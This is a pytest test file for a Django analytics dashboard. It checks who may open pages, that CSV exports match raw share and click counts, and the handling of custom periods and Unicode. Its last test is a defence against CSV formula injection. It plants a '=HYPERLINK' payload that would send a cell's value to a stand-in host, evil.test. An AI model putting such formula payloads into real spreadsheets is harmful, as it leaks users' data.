"""The analytics pages and CSV exports, through the client: who may open them, and that what
they show equals a direct count of the raw shares and clicks."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import number_format

from chorus.academy.models import Onboarding
from chorus.accounts.models import Department, Location
from chorus.analytics.models import Dim
from chorus.analytics.selectors import BREAKDOWNS, Period, today
from chorus.analytics.services import analytics_update
from chorus.analytics.tests.conftest import program_set
from chorus.analytics.tests.raw import Raw, share_attributes
from chorus.content.models import ContentItem, Topic
from chorus.content.tests.factories import ContentItemFactory
from chorus.sharing.models import Share
from chorus.sharing.networks import REGISTRY
from chorus.sharing.services import share_create

BOM = b"\xef\xbb\xbf"
# Every table the program dashboard can export (`advocates` only with individual figures on).
TABLES = ["summary", "days", "funnel", *BREAKDOWNS, "content", "advocates", "emv"]
OWNER_PAGES = [
    reverse("analytics:program"),
    reverse("analytics:program-print"),
    *(reverse("analytics:program-export", args=[table]) for table in TABLES),
]


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV export, after checking that Excel will read it as UTF-8."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="chorus-')
    assert response.content.startswith(BOM)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8")[1:])))


def as_text(figures) -> list[str]:
    return [str(n) for n in figures]


def labels(raw: Raw, dim: str) -> dict[str, str]:
    """What a dimension's keys are called, read from the rows they name."""
    own = "Own posts"
    if dim == Dim.NETWORK:
        return {key: str(network.name) for key, network in REGISTRY.items()}
    if dim in (Dim.DEPARTMENT, Dim.LOCATION, Dim.TOPIC):
        model = {Dim.DEPARTMENT: Department, Dim.LOCATION: Location, Dim.TOPIC: Topic}[dim]
        none = {Dim.DEPARTMENT: "No department", Dim.LOCATION: "No location"}
        return {"": none.get(dim, "No topic")} | {
            str(pk): name for pk, name in model.objects.values_list("pk", "name")
        }
    if dim == Dim.LANGUAGE:
        return {"": own} | {code: str(name) for code, name in settings.LANGUAGES}
    if dim in (Dim.CATEGORY, Dim.KIND):
        choices = ContentItem.Category if dim == Dim.CATEGORY else ContentItem.Kind
        return {"own": own} | {key: str(label) for key, label in choices.choices}
    if dim == Dim.ITEM:
        return {str(pk): title for pk, title in ContentItem.objects.values_list("pk", "title")}
    if dim == Dim.CAMPAIGN:
        return {
            share_attributes(s)[Dim.CAMPAIGN][0]: s.item.title if s.item else own
            for s in raw.shares
        }
    if dim == Dim.ADVOCATE:
        return {str(s.advocate_id): s.advocate.display_name for s in raw.shares}
    raise AssertionError(dim)


def counted_rows(raw: Raw, dim: str, period: Period) -> list[list[str]]:
    """The rows a table of `dim` must hold: a direct count, labelled, most clicked first."""
    named = labels(raw, dim)
    found = raw.by(dim, period.start, period.end)
    ranked = sorted(found.items(), key=lambda kv: (-kv[1][1], -kv[1][0], kv[0]))
    return [[named[key], *as_text(figures)] for key, figures in ranked]


# --- who may open what ------------------------------------------------------------------------


@pytest.mark.parametrize("url", OWNER_PAGES)
def test_an_advocate_and_a_curator_cannot_open_the_program_analytics(login, advocate, curator, url):
    assert login(advocate).get(url).status_code == 403
    assert login(curator).get(url).status_code == 403


def test_an_outsider_is_sent_to_sign_in_from_every_analytics_page(outsider, db):
    item = ContentItemFactory()
    urls = [
        *OWNER_PAGES,
        reverse("analytics:item", args=[item.pk]),
        reverse("analytics:me"),
        reverse("analytics:me-export", args=["days"]),
    ]
    for url in urls:
        response = outsider.get(url)
        assert response.status_code == 302, url
        assert response["Location"].startswith(reverse("account_login")), url
    response = outsider.post(reverse("analytics:me-audiences"), {"audience_linkedin": "5"})
    assert response["Location"].startswith(reverse("account_login"))


def test_the_item_page_is_for_curators_and_owners_only(login, advocate, curator, owner):
    url = reverse("analytics:item", args=[ContentItemFactory(title="Our new office").pk])
    assert login(advocate).get(url).status_code == 403
    for person in (curator, owner):
        response = login(person).get(url)
        assert response.status_code == 200
        assert "Our new office" in response.content.decode()


def test_an_unknown_export_table_is_not_found(login, owner):
    client = login(owner)
    for table in ("nothing", "advocate", "hours"):
        url = reverse("analytics:program-export", args=[table])
        assert client.get(url).status_code == 404
    assert client.get(reverse("analytics:me-export", args=["content"])).status_code == 404


def test_my_page_shows_my_own_figures_and_never_anyone_elses(world, login):
    raw = Raw()
    by_shares = sorted(world.advocates, key=lambda u: -Share.objects.filter(advocate=u).count())
    me, other = by_shares[0], by_shares[-1]
    period = Period.last(90)
    mine = raw.figures(period.start, period.end, Dim.ADVOCATE, str(me.pk))
    theirs = raw.figures(period.start, period.end, Dim.ADVOCATE, str(other.pk))
    assert mine != theirs  # the test can tell them apart
    assert mine[1] > 0

    client = login(me)
    response = client.get(reverse("analytics:me"), {"days": "90"})
    assert response.status_code == 200
    board = response.context["board"]
    figures = board.figures
    assert (figures.shares, figures.clicks, figures.previews, figures.reach) == mine
    kpis = {kpi.key: kpi.value for kpi in response.context["kpis"]}
    assert kpis == dict(zip(["shares", "clicks", "previews", "reach"], mine, strict=True))
    html = response.content.decode()
    for value in mine:
        assert f'<dd class="stat__value">{number_format(value, force_grouping=True)}</dd>' in html
    assert other.display_name not in html
    assert {post.share.advocate_id for post in board.best_posts} == {me.pk}

    export = reverse("analytics:me-export", args=["days"])
    days = csv_rows(client.get(export, {"days": "90"}))
    assert days[0] == ["Day", "Shares", "Clicks", "Link previews", "Estimated reach"]
    assert days[1:] == [
        [day.isoformat(), *as_text(figures)]
        for day, figures in raw.day_by_day(period.start, period.end, Dim.ADVOCATE, str(me.pk))
    ]
    posts = csv_rows(client.get(reverse("analytics:me-export", args=["posts"]), {"days": "90"}))
    assert len(posts) - 1 == len(board.best_posts) > 0
    hours = csv_rows(client.get(reverse("analytics:me-export", args=["hours"]), {"days": "90"}))
    assert sum(int(row[2]) for row in hours[1:]) == mine[1]  # every click of mine, by the hour


# --- the program dashboard --------------------------------------------------------------------


def test_the_program_page_shows_the_direct_counts(
    world, login, owner, django_assert_max_num_queries
):
    program_set(individual_figures=True)
    raw = Raw()
    period = Period.last(30)
    client = login(owner)
    with django_assert_max_num_queries(40):
        response = client.get(reverse("analytics:program"))
    assert response.status_code == 200
    assert response.context["period"] == period
    html = response.content.decode()

    shares, clicks, previews, reach = raw.figures(period.start, period.end)
    before = period.previous()
    kpis = {kpi.key: kpi for kpi in response.context["kpis"]}
    assert kpis["shares"].value == shares
    assert kpis["clicks"].value == clicks
    assert kpis["previews"].value == previews
    assert kpis["reach"].value == reach
    assert kpis["active"].value == raw.active(period.start, period.end)
    assert kpis["shares"].previous == raw.figures(before.start, before.end)[0]
    assert kpis["clicks"].previous == raw.figures(before.start, before.end)[1]
    for value in (shares, clicks, previews, reach):
        assert f'<dd class="stat__value">{number_format(value, force_grouping=True)}</dd>' in html

    # The trend is an accessible SVG with a title, drawn day by day for 30 days.
    assert re.search(r'<svg class="chart__svg"[^>]* role="img"', html)
    assert '<title id="trend-title">Clicks and shares over time</title>' in html
    assert len(response.context["trend"]["rows"]) == 30
    # The funnel, every breakdown, top content and top advocates.
    for stage in response.context["board"].funnel:
        assert f'<span class="funnel__label">{stage.label}</span>' in html
    for dim in BREAKDOWNS:
        assert f'<h2 id="bd-{dim}">{Dim(dim).label}</h2>' in html
        rows = counted_rows(raw, dim, period)
        shown = response.context["board"].breakdowns[dim]
        assert [[r.label, *as_text((r.figures.shares, r.figures.clicks))] for r in shown] == [
            row[:3] for row in rows
        ], dim
    top_content = counted_rows(raw, Dim.ITEM, period)[:10]
    assert [r.label for r in response.context["board"].top_content] == [r[0] for r in top_content]
    for label, *_figures in top_content:
        assert label in html
    top_advocates = counted_rows(raw, Dim.ADVOCATE, period)[:10]
    assert [r.label for r in response.context["board"].top_advocates] == [
        r[0] for r in top_advocates
    ]
    for label, *_figures in top_advocates:
        assert label in html
    # Every table has its export on the page.
    for table in response.context["tables"]:
        assert f"{reverse('analytics:program-export', args=[table])}?days=30" in html


def test_the_printable_page_holds_the_same_figures(world, login, owner):
    program_set(individual_figures=True)
    raw = Raw()
    period = Period.last(90)
    response = login(owner).get(reverse("analytics:program-print"), {"days": "90"})
    assert response.status_code == 200
    html = response.content.decode()
    assert '<title id="trend-title">' in html
    assert response.context["trend"]["weekly"]  # 90 days are drawn week by week
    for value in raw.figures(period.start, period.end):
        assert number_format(value, force_grouping=True) in html
    for label, *_figures in counted_rows(raw, Dim.DEPARTMENT, period):
        assert f'<th scope="row">{label}</th>' in html
    assert f'href="{reverse("analytics:program")}?days=90"' in html


@pytest.mark.parametrize(
    ("query", "days"),
    [({"days": "7"}, 7), ({"days": "90"}, 90), ({}, 30), ({"days": "30"}, 30)],
)
def test_the_period_buttons_choose_the_last_days(login, owner, query, days):
    response = login(owner).get(reverse("analytics:program"), query)
    assert response.status_code == 200
    assert response.context["period"] == Period.last(days)
    assert response.context["query"] == f"days={days}"


def test_chosen_dates_are_the_period_shown(login, owner):
    start, end = today() - dt.timedelta(days=60), today() - dt.timedelta(days=20)
    query = {"days": "custom", "start": start.isoformat(), "end": end.isoformat()}
    response = login(owner).get(reverse("analytics:program"), query)
    assert response.status_code == 200
    assert response.context["period"] == Period(start, end)
    assert response.context["query"] == f"days=custom&start={start}&end={end}"
    assert response.context["period"].days == 41


@pytest.mark.parametrize(
    ("start", "end", "message"),
    [
        (-5, -10, "The last day comes before the first."),
        (-5, 1, "The last day cannot be in the future."),
        (-5, None, "Choose both a first and a last day."),
        (-400, 0, "Choose at most 366 days."),
    ],
)
def test_a_bad_custom_period_shows_why_and_falls_back_to_30_days(login, owner, start, end, message):
    query = {"days": "custom", "start": (today() + dt.timedelta(days=start)).isoformat()}
    if end is not None:
        query["end"] = (today() + dt.timedelta(days=end)).isoformat()
    response = login(owner).get(reverse("analytics:program"), query)
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    assert "Showing the last 30 days instead." in html
    assert response.context["period"] == Period.last(30)
    assert response.context["query"] == "days=30"


# --- the CSV exports --------------------------------------------------------------------------


def test_every_export_listed_on_the_page_holds_the_direct_counts(
    world, login, owner, django_assert_max_num_queries
):
    program_set(
        individual_figures=True,
        emv_rates={"linkedin": {"cpc": "2.50", "cpm": "9.00"}, "x": {"cpc": "0.80"}},
        currency="PLN",
    )
    for advocate in world.advocates[:2]:
        Onboarding.objects.create(user=advocate, completed_at=timezone.now())
    raw = Raw()
    period = Period.last(90)
    before = period.previous()
    client = login(owner)
    page = client.get(reverse("analytics:program"), {"days": "90"})
    listed = list(page.context["tables"])
    assert set(listed) == set(TABLES)
    figure_headers = ["Shares", "Clicks", "Link previews", "Estimated reach"]

    exports = {}
    for table in listed:
        url = reverse("analytics:program-export", args=[table])
        assert url in page.content.decode()
        with django_assert_max_num_queries(40):
            response = client.get(url, {"days": "90"})
        name = f"chorus-{table}-{period.start}-{period.end}.csv"
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        exports[table] = csv_rows(response)

    for dim in BREAKDOWNS:
        assert exports[dim][0] == [str(Dim(dim).label), *figure_headers]
        assert exports[dim][1:] == counted_rows(raw, dim, period), dim
    assert exports["content"][0] == ["Content", *figure_headers]
    assert exports["content"][1:] == counted_rows(raw, Dim.ITEM, period)[:10]
    assert exports["advocates"][0] == ["Advocate", *figure_headers]
    assert exports["advocates"][1:] == counted_rows(raw, Dim.ADVOCATE, period)[:10]
    assert exports["days"][0] == ["Day", *figure_headers]
    assert exports["days"][1:] == [
        [day.isoformat(), *as_text(figures)]
        for day, figures in raw.day_by_day(period.start, period.end)
    ]
    summary = {row[0]: row[1:] for row in exports["summary"][1:]}
    assert exports["summary"][0] == ["Figure", "This period", "Previous period", "Change in %"]
    now, earlier = raw.figures(period.start, period.end), raw.figures(before.start, before.end)
    for n, label in enumerate(figure_headers):
        assert summary[label][:2] == [str(now[n]), str(earlier[n])], label
    assert summary["Active advocates"][:2] == [
        str(raw.active(period.start, period.end)),
        str(raw.active(before.start, before.end)),
    ]
    funnel = dict(row for row in exports["funnel"][1:])
    assert exports["funnel"][0] == ["Stage", "People"]
    assert funnel["Joined the program"] == str(len(world.advocates))
    assert funnel["Finished onboarding"] == "2"
    networks = raw.by(Dim.NETWORK, period.start, period.end)
    emv = {row[0]: row[1:] for row in exports["emv"][1:]}
    linkedin, x = networks["linkedin"], networks["x"]
    assert emv["LinkedIn"][:4] == [str(linkedin[1]), "2.50", str(linkedin[3]), "9.00"]
    value = Decimal(linkedin[1]) * Decimal("2.50") + Decimal(linkedin[3]) / 1000 * Decimal("9.00")
    assert Decimal(emv["LinkedIn"][4]) == value.quantize(Decimal("0.01"))
    assert emv["X"][:2] == [str(x[1]), "0.80"]


def test_polish_and_thai_names_survive_in_the_csv(world, login, owner):
    program_set(individual_figures=True)
    Topic.objects.filter(pk=world.topics[1].pk).update(name="การตลาด")
    Location.objects.filter(pk=world.locations[0].pk).update(name="Łódź")
    thai = world.items[3]
    ContentItem.objects.filter(pk=thai.pk).update(title="ข่าวบริษัท: ผลิตภัณฑ์ใหม่")
    client = login(owner)

    topics = csv_rows(
        client.get(reverse("analytics:program-export", args=["topic"]), {"days": "90"})
    )
    assert "การตลาด" in [row[0] for row in topics[1:]]
    places = csv_rows(
        client.get(reverse("analytics:program-export", args=["location"]), {"days": "90"})
    )
    assert "Łódź" in [row[0] for row in places[1:]]
    content = csv_rows(
        client.get(reverse("analytics:program-export", args=["content"]), {"days": "90"})
    )
    assert "ข่าวบริษัท: ผลิตภัณฑ์ใหม่" in [row[0] for row in content[1:]]
    # In the language of the page, headers included.
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "pl"
    polish = client.get(reverse("analytics:program-export", args=["location"]), {"days": "90"})
    rows = csv_rows(polish)
    assert rows[0][0] == "Lokalizacja"
    assert "Łódź" in [row[0] for row in rows[1:]]


def test_a_label_that_looks_like_a_formula_stays_text_in_the_csv(login, owner, advocate):
    program_set(individual_figures=True)
    advocate.display_name = "@SUM(1+1)"
    advocate.save()
    item = ContentItemFactory(title='=HYPERLINK("https://evil.test/?"&A1,"Open")')
    share_create(advocate=advocate, item=item, network="linkedin", text="Have a look")
    analytics_update()
    client = login(owner)
    labels = []
    for table in ("content", "campaign", "advocates"):
        url = reverse("analytics:program-export", args=[table])
        rows = csv_rows(client.get(url, {"days": "7"}))
        assert len(rows) == 2, table  # the one share is there
        labels.append(rows[1][0])
    assert "HYPERLINK" in labels[0]
    assert "SUM" in labels[2]
    for label in labels:
        assert not label.startswith(("=", "+", "-", "@")), label
